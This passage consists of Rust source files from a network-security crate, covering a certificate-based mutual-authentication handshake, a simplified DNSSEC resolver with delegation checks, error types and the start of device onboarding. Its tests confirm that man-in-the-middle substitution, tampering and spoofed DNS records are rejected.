            },
        ))
    }

    /// Processes the server flight, authenticates the server, and (under
    /// mutual auth) proves the client identity.
    ///
    /// # Errors
    ///
    /// * [`NetsecError::Crypto`] wrapping certificate-validation failures.
    /// * [`NetsecError::PeerAuthentication`] if `CertificateVerify` fails or
    ///   the server key lacks `ServerAuth`.
    /// * [`NetsecError::TranscriptMismatch`] if `Finished` does not verify.
    pub fn finish(
        mut self,
        config: &HandshakeConfig,
        flight: &ServerFlight,
        identity: Option<&mut NodeIdentity>,
        trust_anchors: &[MerklePublicKey],
        crl: &RevocationList,
    ) -> crate::Result<(ClientFlight, SessionKeys)> {
        hash_hello(&mut self.transcript, &flight.random, flight.dh_public);
        hash_chain(&mut self.transcript, &flight.chain);

        validate_chain(&flight.chain, trust_anchors, crl, config.now)?;
        let leaf = &flight.chain[0];
        if !leaf.allows(KeyUsage::ServerAuth) {
            return Err(NetsecError::PeerAuthentication(
                "server key lacks ServerAuth",
            ));
        }
        let transcript_at_cv = self.transcript.clone().finalize();
        if !flight
            .certificate_verify
            .verify(&transcript_at_cv, &leaf.tbs.public_key)
        {
            return Err(NetsecError::PeerAuthentication("certificate verify failed"));
        }
        self.transcript
            .update(&flight.certificate_verify.to_bytes());

        let shared = self.keypair.shared_secret(flight.dh_public)?;
        let schedule = KeySchedule::from_shared(&shared);

        let transcript_at_sf = self.transcript.clone().finalize();
        let expected = HmacSha256::mac(&schedule.finished_key("s finished"), &transcript_at_sf);
        if !genio_crypto::ct::eq(&expected, &flight.finished) {
            return Err(NetsecError::TranscriptMismatch);
        }
        self.transcript.update(&flight.finished);

        // Client authentication.
        let (chain, certificate_verify) = match (config.require_client_auth, identity) {
            (true, Some(id)) => {
                hash_chain(&mut self.transcript, &id.chain);
                let t = self.transcript.clone().finalize();
                let sig = id.signer.sign(&t)?;
                self.transcript.update(&sig.to_bytes());
                (Some(id.chain.clone()), Some(sig))
            }
            (true, None) => {
                return Err(NetsecError::PeerAuthentication(
                    "client certificate required",
                ))
            }
            (false, _) => (None, None),
        };

        let transcript_at_cf = self.transcript.clone().finalize();
        let finished = HmacSha256::mac(&schedule.finished_key("c finished"), &transcript_at_cf);
        self.transcript.update(&finished);

        let final_transcript = self.transcript.finalize();
        let keys = schedule.session_keys(final_transcript)?;
        Ok((
            ClientFlight {
                chain,
                certificate_verify,
                finished,
            },
            keys,
        ))
    }
}

/// Server-side handshake state between `respond` and `finish`.
#[derive(Debug)]
pub struct ServerSession {
    schedule: KeySchedule,
    transcript: Sha256,
}

impl ServerSession {
    /// Produces the server flight in response to a `ClientHello`.
    ///
    /// # Errors
    ///
    /// * [`NetsecError::Crypto`] on invalid client DH values or signer
    ///   exhaustion.
    pub fn respond(
        _config: &HandshakeConfig,
        hello: &ClientHello,
        identity: &mut NodeIdentity,
        seed: &[u8],
    ) -> crate::Result<(ServerFlight, Self)> {
        let mut rng = HmacDrbg::new(seed);
        rng.reseed(b"server");
        let keypair = KeyPair::generate(&mut rng);
        let mut random = [0u8; 32];
        rng.fill(&mut random);

        let mut transcript = Sha256::new();
        hash_hello(&mut transcript, &hello.random, hello.dh_public);
        hash_hello(&mut transcript, &random, keypair.public());
        hash_chain(&mut transcript, &identity.chain);

        let transcript_at_cv = transcript.clone().finalize();
        let certificate_verify = identity.signer.sign(&transcript_at_cv)?;
        transcript.update(&certificate_verify.to_bytes());

        let shared = keypair.shared_secret(hello.dh_public)?;
        let schedule = KeySchedule::from_shared(&shared);

        let transcript_at_sf = transcript.clone().finalize();
        let finished = HmacSha256::mac(&schedule.finished_key("s finished"), &transcript_at_sf);
        transcript.update(&finished);

        let flight = ServerFlight {
            random,
            dh_public: keypair.public(),
            chain: identity.chain.clone(),
            certificate_verify,
            finished,
        };
        Ok((
            flight,
            ServerSession {
                schedule,
                transcript,
            },
        ))
    }

    /// Processes the client flight and derives the session keys.
    ///
    /// # Errors
    ///
    /// * [`NetsecError::PeerAuthentication`] under mutual auth when the
    ///   client chain or proof is missing/invalid.
    /// * [`NetsecError::TranscriptMismatch`] if the client `Finished` fails.
    pub fn finish(
        mut self,
        config: &HandshakeConfig,
        flight: &ClientFlight,
        trust_anchors: &[MerklePublicKey],
        crl: &RevocationList,
    ) -> crate::Result<SessionKeys> {
        if config.require_client_auth {
            let chain = flight
                .chain
                .as_ref()
                .ok_or(NetsecError::PeerAuthentication("client chain missing"))?;
            let cv = flight
                .certificate_verify
                .as_ref()
                .ok_or(NetsecError::PeerAuthentication("client proof missing"))?;
            validate_chain(chain, trust_anchors, crl, config.now)?;
            let leaf = &chain[0];
            if !leaf.allows(KeyUsage::ClientAuth) {
                return Err(NetsecError::PeerAuthentication(
                    "client key lacks ClientAuth",
                ));
            }
            hash_chain(&mut self.transcript, chain);
            let t = self.transcript.clone().finalize();
            if !cv.verify(&t, &leaf.tbs.public_key) {
                return Err(NetsecError::PeerAuthentication(
                    "client certificate verify failed",
                ));
            }
            self.transcript.update(&cv.to_bytes());
        }

        let transcript_at_cf = self.transcript.clone().finalize();
        let expected =
            HmacSha256::mac(&self.schedule.finished_key("c finished"), &transcript_at_cf);
        if !genio_crypto::ct::eq(&expected, &flight.finished) {
            return Err(NetsecError::TranscriptMismatch);
        }
        self.transcript.update(&flight.finished);

        let final_transcript = self.transcript.finalize();
        self.schedule.session_keys(final_transcript)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::onboarding::{DeviceClass, Enrollment};

    fn fleet() -> (Enrollment, NodeIdentity, NodeIdentity) {
        let mut e = Enrollment::new(b"hs-fleet", (0, 1_000_000), 6).unwrap();
        let client = e
            .enroll("onu-client", DeviceClass::Onu, b"client-key")
            .unwrap();
        let server = e
            .enroll("olt-server", DeviceClass::Olt, b"server-key")
            .unwrap();
        (e, client, server)
    }

    fn run(
        config: &HandshakeConfig,
        client_id: Option<&mut NodeIdentity>,
        server_id: &mut NodeIdentity,
        anchors: &[MerklePublicKey],
        crl: &RevocationList,
    ) -> crate::Result<(SessionKeys, SessionKeys)> {
        let (hello, client) = ClientSession::start(config, b"seed-c")?;
        let (flight, server) = ServerSession::respond(config, &hello, server_id, b"seed-s")?;
        let (cf, ck) = client.finish(config, &flight, client_id, anchors, crl)?;
        let sk = server.finish(config, &cf, anchors, crl)?;
        Ok((ck, sk))
    }

    #[test]
    fn server_only_handshake_succeeds() {
        let (e, _, mut server) = fleet();
        let cfg = HandshakeConfig {
            require_client_auth: false,
            now: 10,
        };
        let (mut ck, mut sk) = run(&cfg, None, &mut server, &[e.trust_anchor()], e.crl()).unwrap();
        let rec = ck.seal_client(b"ping").unwrap();
        assert_eq!(sk.open_client(&rec).unwrap(), b"ping");
        let rec = sk.seal_server(b"pong").unwrap();
        assert_eq!(ck.open_server(&rec).unwrap(), b"pong");
        assert_eq!(ck.transcript_hash, sk.transcript_hash);
    }

    #[test]
    fn mutual_handshake_succeeds() {
        let (e, mut client, mut server) = fleet();
        let cfg = HandshakeConfig {
            require_client_auth: true,
            now: 10,
        };
        let (mut ck, mut sk) = run(
            &cfg,
            Some(&mut client),
            &mut server,
            &[e.trust_anchor()],
            e.crl(),
        )
        .unwrap();
        let rec = ck.seal_client(b"authenticated").unwrap();
        assert_eq!(sk.open_client(&rec).unwrap(), b"authenticated");
    }

    #[test]
    fn missing_client_cert_rejected_under_mutual_auth() {
        let (e, _, mut server) = fleet();
        let cfg = HandshakeConfig {
            require_client_auth: true,
            now: 10,
        };
        let err = run(&cfg, None, &mut server, &[e.trust_anchor()], e.crl());
        assert!(matches!(err, Err(NetsecError::PeerAuthentication(_))));
    }

    #[test]
    fn untrusted_server_rejected() {
        let (e, _, _) = fleet();
        let mut rogue_fleet = Enrollment::new(b"rogue", (0, 1_000_000), 5).unwrap();
        let mut rogue = rogue_fleet
            .enroll("rogue-olt", DeviceClass::Olt, b"rk")
            .unwrap();
        let cfg = HandshakeConfig {
            require_client_auth: false,
            now: 10,
        };
        let err = run(&cfg, None, &mut rogue, &[e.trust_anchor()], e.crl());
        assert!(err.is_err());
    }

    #[test]
    fn onu_cert_cannot_act_as_server() {
        // Key-usage enforcement: a ClientAuth-only leaf must be rejected in
        // the server role even though its chain is valid.
        let (e, mut client, _) = fleet();
        let cfg = HandshakeConfig {
            require_client_auth: false,
            now: 10,
        };
        let err = run(&cfg, None, &mut client, &[e.trust_anchor()], e.crl());
        assert!(matches!(err, Err(NetsecError::PeerAuthentication(_))));
    }

    #[test]
    fn mitm_dh_substitution_detected() {
        // Attacker replaces the server DH share in flight. The Finished MAC
        // (keyed from the DH secret) no longer verifies on the client.
        let (e, _, mut server) = fleet();
        let cfg = HandshakeConfig {
            require_client_auth: false,
            now: 10,
        };
        let (hello, client) = ClientSession::start(&cfg, b"seed-c").unwrap();
        let (mut flight, _server_state) =
            ServerSession::respond(&cfg, &hello, &mut server, b"seed-s").unwrap();
        let mut rng = HmacDrbg::new(b"attacker");
        let attacker = KeyPair::generate(&mut rng);
        flight.dh_public = attacker.public();
        let err = client.finish(&cfg, &flight, None, &[e.trust_anchor()], e.crl());
        assert!(err.is_err(), "substituted share must break the handshake");
    }

    #[test]
    fn tampered_finished_detected() {
        let (e, _, mut server) = fleet();
        let cfg = HandshakeConfig {
            require_client_auth: false,
            now: 10,
        };
        let (hello, client) = ClientSession::start(&cfg, b"seed-c").unwrap();
        let (mut flight, _) = ServerSession::respond(&cfg, &hello, &mut server, b"seed-s").unwrap();
        flight.finished[0] ^= 1;
        let err = client.finish(&cfg, &flight, None, &[e.trust_anchor()], e.crl());
        assert_eq!(err.unwrap_err(), NetsecError::TranscriptMismatch);
    }

    #[test]
    fn record_tampering_detected() {
        let (e, _, mut server) = fleet();
        let cfg = HandshakeConfig {
            require_client_auth: false,
            now: 10,
        };
        let (mut ck, mut sk) = run(&cfg, None, &mut server, &[e.trust_anchor()], e.crl()).unwrap();
        let mut rec = ck.seal_client(b"data").unwrap();
        rec.body[0] ^= 1;
        assert_eq!(sk.open_client(&rec), Err(NetsecError::IntegrityFailure));
    }

    #[test]
    fn directions_use_distinct_keys() {
        let (e, _, mut server) = fleet();
        let cfg = HandshakeConfig {
            require_client_auth: false,
            now: 10,
        };
        let (mut ck, mut sk) = run(&cfg, None, &mut server, &[e.trust_anchor()], e.crl()).unwrap();
        let rec = ck.seal_client(b"msg").unwrap();
        // A client record must not open as a server record.
        assert!(sk.open_server(&rec).is_err());
    }

    #[test]
    fn server_cert_cannot_act_as_client() {
        // Mutual auth with the roles swapped on the client side: an OLT
        // (ServerAuth-only) identity presented as the client must be
        // rejected by the server's usage check.
        let mut e = Enrollment::new(b"hs-fleet-2", (0, 1_000_000), 6).unwrap();
        let mut olt_as_client = e.enroll("olt-a", DeviceClass::Olt, b"ka").unwrap();
        let mut olt_server = e.enroll("olt-b", DeviceClass::Olt, b"kb").unwrap();
        let cfg = HandshakeConfig {
            require_client_auth: true,
            now: 10,
        };
        let err = run(
            &cfg,
            Some(&mut olt_as_client),
            &mut olt_server,
            &[e.trust_anchor()],
            e.crl(),
        );
        assert!(matches!(err, Err(NetsecError::PeerAuthentication(_))));
    }

    #[test]
    fn expired_server_cert_rejected() {
        let (e, _, mut server) = fleet();
        let cfg = HandshakeConfig {
            require_client_auth: false,
            now: 2_000_000,
        };
        let err = run(&cfg, None, &mut server, &[e.trust_anchor()], e.crl());
        assert!(err.is_err());
    }

    #[test]
    fn batched_records_match_sequential_records() {
        let (e, _, mut server) = fleet();
        let cfg = HandshakeConfig {
            require_client_auth: false,
            now: 10,
        };
        // Two independent sessions from the same handshake inputs would have
        // different DH secrets, so compare batched vs sequential *within* one
        // session pair: seal a burst on the client pair, replay the same
        // plaintexts sequentially on the server pair of a fresh handshake and
        // check self-consistency instead of cross-session bytes.
        let (mut ck, mut sk) = run(&cfg, None, &mut server, &[e.trust_anchor()], e.crl()).unwrap();
        let payloads: Vec<Vec<u8>> = (0..9u8)
            .map(|i| vec![i; 3 + usize::from(i) * 17])
            .collect();
        let refs: Vec<&[u8]> = payloads.iter().map(Vec::as_slice).collect();

        // Client burst, opened as a burst on the server side.
        let recs = ck.seal_client_many(&refs).unwrap();
        assert_eq!(ck.client_seq, 9);
        for (i, r) in recs.iter().enumerate() {
            assert_eq!(r.seq, i as u64);
        }
        let opened = sk.open_client_many(&recs);
        for (got, want) in opened.iter().zip(payloads.iter()) {
            assert_eq!(got.as_ref().unwrap(), want);
        }

        // A batched record must be indistinguishable from a sequential one:
        // the next sequential seal continues the sequence and still opens.
        let rec = ck.seal_client(b"after burst").unwrap();
        assert_eq!(rec.seq, 9);
        assert_eq!(sk.open_client(&rec).unwrap(), b"after burst");

        // Server direction, batch sealed and sequentially opened.
        let srecs = sk.seal_server_many(&refs).unwrap();
        for (r, want) in srecs.iter().zip(payloads.iter()) {
            assert_eq!(&ck.open_server(r).unwrap(), want);
        }
    }

    #[test]
    fn batched_open_reports_per_record_tampering() {
        let (e, _, mut server) = fleet();
        let cfg = HandshakeConfig {
            require_client_auth: false,
            now: 10,
        };
        let (mut ck, mut sk) = run(&cfg, None, &mut server, &[e.trust_anchor()], e.crl()).unwrap();
        let payloads: [&[u8]; 4] = [b"a", b"bb", b"ccc", b"dddd"];
        let mut recs = ck.seal_client_many(&payloads).unwrap();
        recs[2].body[0] ^= 0x80;
        let opened = sk.open_client_many(&recs);
        assert_eq!(opened.len(), 4);
        for (i, r) in opened.iter().enumerate() {
            if i == 2 {
                assert!(matches!(r, Err(NetsecError::IntegrityFailure)));
            } else {
                assert_eq!(r.as_ref().unwrap(), payloads[i]);
            }
        }
    }
}
