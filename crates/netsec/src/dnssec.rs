//! DNSSEC-lite: signed zones with delegation, validated resolution.
//!
//! Mitigation **M4** cites secure DNS (RFC 4033) as part of preventing
//! man-in-the-middle attacks during device onboarding: when an ONU looks up
//! its registration endpoint, a spoofed answer would redirect it to a rogue
//! controller. This module models the part of DNSSEC that defeats that —
//! per-zone signing keys, DS-record delegation from parent to child, and a
//! resolver that validates the chain down from a trust anchor.

use std::collections::HashMap;

use genio_crypto::ct;
use genio_crypto::sha256::{sha256, Digest};
use genio_crypto::sig::{MerklePublicKey, MerkleSignature, MerkleSigner};

use crate::NetsecError;

/// Record types carried by the simulation.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum RecordType {
    /// Host address.
    A,
    /// Free-text (used for registration endpoints and key hints).
    Txt,
}

/// One signed resource record.
#[derive(Debug, Clone)]
pub struct SignedRecord {
    /// Fully qualified name, e.g. `register.genio.example`.
    pub name: String,
    /// Record type.
    pub rtype: RecordType,
    /// Record value, e.g. an address literal.
    pub value: String,
    /// RRSIG: zone-key signature over the canonical encoding.
    pub rrsig: MerkleSignature,
}

fn canonical(name: &str, rtype: RecordType, value: &str) -> Vec<u8> {
    let t = match rtype {
        RecordType::A => "A",
        RecordType::Txt => "TXT",
    };
    format!("{name}|{t}|{value}").into_bytes()
}

/// A DS record: the parent-zone-published digest of a child zone's key.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DsRecord {
    /// Child zone name.
    pub child: String,
    /// SHA-256 of the child zone's public key.
    pub key_digest: Digest,
    /// Parent-zone signature over the DS content.
    pub rrsig: MerkleSignature,
}

/// An authoritative zone with its signing key.
#[derive(Debug)]
pub struct Zone {
    /// Zone apex name, e.g. `genio.example` (the root zone uses `.`).
    pub name: String,
    signer: MerkleSigner,
    records: Vec<SignedRecord>,
    delegations: Vec<DsRecord>,
}

impl Zone {
    /// Creates a zone with a fresh signing key derived from `seed`.
    pub fn new(name: &str, seed: &[u8]) -> Self {
        Zone {
            name: name.to_string(),
            signer: MerkleSigner::from_seed(seed, 8),
            records: Vec::new(),
            delegations: Vec::new(),
        }
    }

    /// The zone public key (DNSKEY).
    pub fn public_key(&self) -> MerklePublicKey {
        self.signer.public()
    }

    /// Adds and signs a record.
    ///
    /// # Errors
    ///
    /// Propagates signer exhaustion.
    pub fn add_record(&mut self, name: &str, rtype: RecordType, value: &str) -> crate::Result<()> {
        let rrsig = self.signer.sign(&canonical(name, rtype, value))?;
        self.records.push(SignedRecord {
            name: name.to_string(),
            rtype,
            value: value.to_string(),
            rrsig,
        });
        Ok(())
    }

    /// Publishes a signed DS record delegating to `child`.
    ///
    /// # Errors
    ///
    /// Propagates signer exhaustion.
    pub fn delegate(&mut self, child: &Zone) -> crate::Result<()> {
        let key_digest = sha256(&child.public_key());
        let content = [child.name.as_bytes(), &key_digest[..]].concat();
        let rrsig = self.signer.sign(&content)?;
        self.delegations.push(DsRecord {
            child: child.name.clone(),
            key_digest,
            rrsig,
        });
        Ok(())
    }

    /// Looks up a record by name and type (unvalidated; the resolver does
    /// the validation).
    pub fn find(&self, name: &str, rtype: RecordType) -> Option<&SignedRecord> {
        self.records
            .iter()
            .find(|r| r.name == name && r.rtype == rtype)
    }

    /// Finds the DS record for a child zone.
    pub fn ds_for(&self, child: &str) -> Option<&DsRecord> {
        self.delegations.iter().find(|d| d.child == child)
    }
}

/// A validating resolver holding the zones it can reach and the root trust
/// anchor.
#[derive(Debug)]
pub struct Resolver {
    zones: HashMap<String, ZoneView>,
    trust_anchor: MerklePublicKey,
    root: String,
}

/// Published (attacker-modifiable) view of a zone: what a resolver actually
/// receives over the network.
#[derive(Debug, Clone)]
pub struct ZoneView {
    /// Zone apex.
    pub name: String,
    /// Claimed zone key.
    pub public_key: MerklePublicKey,
    /// Served records.
    pub records: Vec<SignedRecord>,
    /// Served delegations.
    pub delegations: Vec<DsRecord>,
}

impl ZoneView {
    /// Snapshots a zone into its served form.
    pub fn of(zone: &Zone) -> Self {
        ZoneView {
            name: zone.name.clone(),
            public_key: zone.public_key(),
            records: zone.records.clone(),
            delegations: zone.delegations.clone(),
        }
    }
}

impl Resolver {
    /// Creates a resolver trusting `root_key` for zone `root`.
    pub fn new(root: &str, root_key: MerklePublicKey) -> Self {
        Resolver {
            zones: HashMap::new(),
            trust_anchor: root_key,
            root: root.to_string(),
        }
    }

    /// Installs (or replaces) a served zone view.
    pub fn add_zone(&mut self, view: ZoneView) {
        self.zones.insert(view.name.clone(), view);
    }

    /// Resolves and validates `name` of type `rtype`, walking the
    /// delegation path `path` (zone apexes from root to the authoritative
    /// zone).
    ///
    /// # Errors
    ///
    /// * [`NetsecError::DnssecInvalid`] for any broken link in the chain:
    ///   root key mismatch, DS digest mismatch, bad RRSIG.
    /// * [`NetsecError::NameNotFound`] when the final zone lacks the name.
    pub fn resolve(&self, path: &[&str], name: &str, rtype: RecordType) -> crate::Result<String> {
        if path.is_empty() || path[0] != self.root {
            return Err(NetsecError::DnssecInvalid("path must start at the root"));
        }
        let mut expected_key = self.trust_anchor;
        for (i, apex) in path.iter().enumerate() {
            let zone = self
                .zones
                .get(*apex)
                .ok_or(NetsecError::DnssecInvalid("zone not reachable"))?;
            if !ct::eq(&zone.public_key, &expected_key) {
                return Err(NetsecError::DnssecInvalid("zone key does not match chain"));
            }
            if let Some(next_apex) = path.get(i + 1) {
                let ds = zone
                    .delegations
                    .iter()
                    .find(|d| d.child == **next_apex)
                    .ok_or(NetsecError::DnssecInvalid("missing delegation"))?;
                let content = [next_apex.as_bytes(), &ds.key_digest[..]].concat();
                if !ds.rrsig.verify(&content, &zone.public_key) {
                    return Err(NetsecError::DnssecInvalid("ds signature invalid"));
                }
                let next = self
                    .zones
                    .get(*next_apex)
                    .ok_or(NetsecError::DnssecInvalid("child zone not reachable"))?;
                if !ct::eq(&sha256(&next.public_key), &ds.key_digest) {
                    return Err(NetsecError::DnssecInvalid("child key digest mismatch"));
                }
                expected_key = next.public_key;
            } else {
                let record = zone
                    .records
                    .iter()
                    .find(|r| r.name == name && r.rtype == rtype)
                    .ok_or_else(|| NetsecError::NameNotFound(name.to_string()))?;
                if !record.rrsig.verify(
                    &canonical(&record.name, record.rtype, &record.value),
                    &zone.public_key,
                ) {
                    return Err(NetsecError::DnssecInvalid("record signature invalid"));
                }
                return Ok(record.value.clone());
            }
        }
        // The loop returns at the last path element; an empty tail means
        // the caller handed us an inconsistent delegation path.
        Err(NetsecError::DnssecInvalid("delegation path exhausted"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn build() -> (Zone, Zone, Resolver) {
        let mut root = Zone::new(".", b"root-zone");
        let mut genio = Zone::new("genio.example", b"genio-zone");
        genio
            .add_record("register.genio.example", RecordType::A, "203.0.113.10")
            .unwrap();
        genio
            .add_record(
                "register.genio.example",
                RecordType::Txt,
                "v=genio1 ca=sha256:abc",
            )
            .unwrap();
        root.delegate(&genio).unwrap();
        let mut resolver = Resolver::new(".", root.public_key());
        resolver.add_zone(ZoneView::of(&root));
        resolver.add_zone(ZoneView::of(&genio));
        (root, genio, resolver)
    }

    #[test]
    fn valid_resolution() {
        let (_, _, resolver) = build();
        let v = resolver
            .resolve(
                &[".", "genio.example"],
                "register.genio.example",
                RecordType::A,
            )
            .unwrap();
        assert_eq!(v, "203.0.113.10");
    }

    #[test]
    fn txt_and_a_are_distinct() {
        let (_, _, resolver) = build();
        let v = resolver
            .resolve(
                &[".", "genio.example"],
                "register.genio.example",
                RecordType::Txt,
            )
            .unwrap();
        assert!(v.starts_with("v=genio1"));
    }

    #[test]
    fn missing_name_reported() {
        let (_, _, resolver) = build();
        let err = resolver.resolve(&[".", "genio.example"], "nope.genio.example", RecordType::A);
        assert!(matches!(err, Err(NetsecError::NameNotFound(_))));
    }

    #[test]
    fn spoofed_record_value_rejected() {
        let (root, genio, _) = build();
        let mut view = ZoneView::of(&genio);
        // Attacker rewrites the address but cannot re-sign.
        view.records[0].value = "198.51.100.66".to_string();
        let mut resolver = Resolver::new(".", root.public_key());
        resolver.add_zone(ZoneView::of(&root));
        resolver.add_zone(view);
        let err = resolver.resolve(
            &[".", "genio.example"],
            "register.genio.example",
            RecordType::A,
        );
        assert!(matches!(err, Err(NetsecError::DnssecInvalid(_))));
    }

    #[test]
    fn substituted_zone_key_rejected() {
        // Attacker serves a whole fake child zone with its own key; the DS
        // digest in the parent does not match.
        let (root, _genio, _) = build();
        let mut fake = Zone::new("genio.example", b"attacker-zone");
        fake.add_record("register.genio.example", RecordType::A, "198.51.100.66")
            .unwrap();
        let mut resolver = Resolver::new(".", root.public_key());
        resolver.add_zone(ZoneView::of(&root));
        resolver.add_zone(ZoneView::of(&fake));
        let err = resolver.resolve(
            &[".", "genio.example"],
            "register.genio.example",
            RecordType::A,
        );
        assert!(matches!(err, Err(NetsecError::DnssecInvalid(_))));
    }

    #[test]
    fn fake_root_rejected() {
        let (_root, genio, _) = build();
        let mut fake_root = Zone::new(".", b"fake-root");
        fake_root.delegate(&genio).unwrap();
        // Resolver still trusts the genuine root key.
        let (real_root, _, _) = build();
        let mut resolver = Resolver::new(".", real_root.public_key());
        resolver.add_zone(ZoneView::of(&fake_root));
        resolver.add_zone(ZoneView::of(&genio));
        let err = resolver.resolve(
            &[".", "genio.example"],
            "register.genio.example",
            RecordType::A,
        );
        assert!(matches!(err, Err(NetsecError::DnssecInvalid(_))));
    }

    #[test]
    fn path_must_start_at_root() {
        let (_, _, resolver) = build();
        let err = resolver.resolve(&["genio.example"], "register.genio.example", RecordType::A);
        assert!(matches!(err, Err(NetsecError::DnssecInvalid(_))));
    }

    #[test]
    fn missing_delegation_rejected() {
        let (root, _, _) = build();
        let other = Zone::new("other.example", b"other");
        let mut resolver = Resolver::new(".", root.public_key());
        resolver.add_zone(ZoneView::of(&root));
        resolver.add_zone(ZoneView::of(&other));
        let err = resolver.resolve(&[".", "other.example"], "x.other.example", RecordType::A);
        assert!(matches!(err, Err(NetsecError::DnssecInvalid(_))));
    }
}
