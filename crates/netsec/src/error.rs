use std::fmt;

use genio_crypto::CryptoError;

/// Error type for network-security operations.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum NetsecError {
    /// A frame arrived on an unknown secure channel.
    UnknownChannel(u64),
    /// A frame referenced an association number with no installed key.
    NoAssociation {
        /// Channel identifier.
        sci: u64,
        /// Association number (0–3).
        an: u8,
    },
    /// The packet number fell outside the anti-replay window or repeated.
    ReplayDetected {
        /// Offending packet number.
        pn: u64,
    },
    /// Integrity check failed: frame tampered or wrong key.
    IntegrityFailure,
    /// Packet-number space exhausted; the SAK must be rotated.
    PnExhausted,
    /// A handshake message arrived out of order.
    HandshakeOutOfOrder(&'static str),
    /// Peer authentication failed during the handshake.
    PeerAuthentication(&'static str),
    /// The handshake transcript did not match (Finished verification).
    TranscriptMismatch,
    /// DNS name not found in the zone.
    NameNotFound(String),
    /// DNSSEC validation failed.
    DnssecInvalid(&'static str),
    /// An underlying crypto operation failed.
    Crypto(CryptoError),
}

impl fmt::Display for NetsecError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            NetsecError::UnknownChannel(sci) => write!(f, "unknown secure channel {sci:#x}"),
            NetsecError::NoAssociation { sci, an } => {
                write!(f, "no association {an} on channel {sci:#x}")
            }
            NetsecError::ReplayDetected { pn } => write!(f, "replay detected at pn {pn}"),
            NetsecError::IntegrityFailure => write!(f, "integrity check failed"),
            NetsecError::PnExhausted => write!(f, "packet number space exhausted"),
            NetsecError::HandshakeOutOfOrder(what) => {
                write!(f, "handshake message out of order: {what}")
            }
            NetsecError::PeerAuthentication(why) => write!(f, "peer authentication failed: {why}"),
            NetsecError::TranscriptMismatch => write!(f, "handshake transcript mismatch"),
            NetsecError::NameNotFound(name) => write!(f, "name not found: {name}"),
            NetsecError::DnssecInvalid(why) => write!(f, "dnssec validation failed: {why}"),
            NetsecError::Crypto(e) => write!(f, "crypto error: {e}"),
        }
    }
}

impl std::error::Error for NetsecError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            NetsecError::Crypto(e) => Some(e),
            _ => None,
        }
    }
}

impl From<CryptoError> for NetsecError {
    fn from(e: CryptoError) -> Self {
        NetsecError::Crypto(e)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_formats() {
        assert_eq!(
            NetsecError::ReplayDetected { pn: 9 }.to_string(),
            "replay detected at pn 9"
        );
        assert_eq!(
            NetsecError::IntegrityFailure.to_string(),
            "integrity check failed"
        );
    }

    #[test]
    fn crypto_errors_convert() {
        let e: NetsecError = CryptoError::AuthenticationFailed.into();
        assert!(matches!(e, NetsecError::Crypto(_)));
    }
}
