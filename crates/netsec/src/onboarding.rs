//! Node identities and the onboarding ceremony (mitigation **M4**).
//!
//! Every GENIO device — ONUs at customer premises, OLTs in central offices,
//! cloud controllers — holds a certificate chain rooted in the project CA.
//! Onboarding runs the mutual-authentication handshake and records the
//! certificate-management operations performed, because the paper's
//! **Lesson 2** is precisely that "implementing secure authentication among
//! heterogeneous hardware demands careful management of certificates": the
//! bookkeeping here lets experiment E-L2 quantify that overhead.

use genio_crypto::pki::{
    validate_chain, Certificate, CertificateAuthority, KeyUsage, RevocationList,
};
use genio_crypto::sig::{MerklePublicKey, MerkleSigner};

use genio_telemetry::Telemetry;

use crate::handshake::{ClientSession, HandshakeConfig, ServerSession, SessionKeys};

/// Device classes in the GENIO deployment (Fig. 1 of the paper).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum DeviceClass {
    /// Optical Network Unit — far edge, customer premises.
    Onu,
    /// Optical Line Terminal — edge, central office.
    Olt,
    /// Cloud controller / orchestration center.
    Cloud,
}

impl DeviceClass {
    /// The key usage this device class authenticates with.
    pub fn key_usage(self) -> KeyUsage {
        match self {
            DeviceClass::Onu => KeyUsage::ClientAuth,
            DeviceClass::Olt | DeviceClass::Cloud => KeyUsage::ServerAuth,
        }
    }
}

/// A provisioned device identity: name, certificate chain (leaf first,
/// excluding the root), and the private signer for the leaf key.
#[derive(Debug)]
pub struct NodeIdentity {
    /// Device name (also the certificate subject).
    pub name: String,
    /// Device class.
    pub class: DeviceClass,
    /// Certificate chain, leaf first, ending at the root CA certificate.
    pub chain: Vec<Certificate>,
    /// Private signing key matching the leaf certificate.
    pub signer: MerkleSigner,
}

/// Running totals of certificate-management operations — the Lesson 2 cost
/// model.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct CertOpsLedger {
    /// Certificates issued (enrolment).
    pub issued: u64,
    /// Chains validated during handshakes.
    pub chains_validated: u64,
    /// Signatures produced by device keys.
    pub signatures: u64,
    /// Certificates renewed after expiry.
    pub renewals: u64,
    /// Certificates revoked.
    pub revocations: u64,
}

impl CertOpsLedger {
    /// Total operations of all kinds.
    pub fn total(&self) -> u64 {
        self.issued + self.chains_validated + self.signatures + self.renewals + self.revocations
    }
}

/// Fleet-wide identity provisioning: wraps the project CA and tracks
/// certificate-management effort.
#[derive(Debug)]
pub struct Enrollment {
    ca: CertificateAuthority,
    crl: RevocationList,
    /// Operation counters for experiment E-L2.
    pub ledger: CertOpsLedger,
    validity: (u64, u64),
}

impl Enrollment {
    /// Creates the project root CA.
    ///
    /// `validity` is the window granted to enrolled device certificates; the
    /// root certificate itself is given a window ten times longer, matching
    /// the usual practice of long-lived roots and short-lived leaves.
    ///
    /// # Errors
    ///
    /// Propagates CA key-generation failures.
    pub fn new(seed: &[u8], validity: (u64, u64), capacity_log2: u32) -> crate::Result<Self> {
        let root_validity = (validity.0, validity.1.saturating_mul(10));
        let ca =
            CertificateAuthority::self_signed("genio-root", seed, root_validity, capacity_log2)?;
        Ok(Enrollment {
            ca,
            crl: RevocationList::new(),
            ledger: CertOpsLedger::default(),
            validity,
        })
    }

    /// The root public key (the fleet trust anchor).
    pub fn trust_anchor(&self) -> MerklePublicKey {
        self.ca.public()
    }

    /// The root certificate.
    pub fn root_certificate(&self) -> &Certificate {
        self.ca.certificate()
    }

    /// The current revocation list.
    pub fn crl(&self) -> &RevocationList {
        &self.crl
    }

    /// Enrols a device: generates its key, issues its certificate, returns
    /// the identity.
    ///
